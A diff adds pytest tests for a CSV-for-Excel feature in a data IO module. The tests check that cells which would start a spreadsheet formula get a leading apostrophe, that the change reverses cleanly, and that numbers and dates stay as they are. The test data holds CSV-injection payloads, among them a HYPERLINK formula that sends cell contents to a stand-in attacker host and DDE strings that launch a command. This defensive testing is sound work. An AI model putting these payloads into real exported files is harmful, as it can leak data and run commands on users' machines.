@@ -360,3 +360,31 @@ def test_read_table_round_trips_what_csv_writes(tmp_path_factory, rows, encoding
     frame = io.read_table(path)
     assert list(frame.columns) == ["namn", "ort", "_row"]
     assert list(zip(frame["namn"], frame["ort"], strict=True)) == rows
+
+
+# ------------------------------------------------------------------ CSV for Excel (issue 19)
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ('=HYPERLINK("http://evil.example/?x="&A1;"Klicka")', '\'=HYPERLINK("http://evil.example/?x="&A1;"Klicka")'),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("-3", "-3"), ("-3,5", "-3,5"), ("+46 36 10 10 00", "'+46 36 10 10 00"), ("1 234,5", "1 234,5"),
+    ("sjukdomsutbrott vecka 7", "sjukdomsutbrott vecka 7"), ("", ""),
+])
+def test_a_cell_that_would_start_a_formula_is_written_as_text(cell, written):
+    """OWASP's rule for CSV injection: a leading ' makes Excel show the cell as text."""
+    assert io.neutralise_formula(cell) == written
+    assert io.restore_formula(io.neutralise_formula(cell)) == cell
+
+
+def test_excel_safe_leaves_numbers_and_dates_alone():
+    frame = pd.DataFrame({"note": ["=1+1", "bra"], "value": [-3.0, 2.0],
+                          "period": pd.to_datetime(["2024-01-01", "2024-01-08"])})
+    safe = io.excel_safe(frame)
+    assert list(safe["note"]) == ["'=1+1", "bra"]
+    pd.testing.assert_series_equal(safe["value"], frame["value"])
+    pd.testing.assert_series_equal(safe["period"], frame["period"])
+    assert list(frame["note"]) == ["=1+1", "bra"]  # the input is not changed
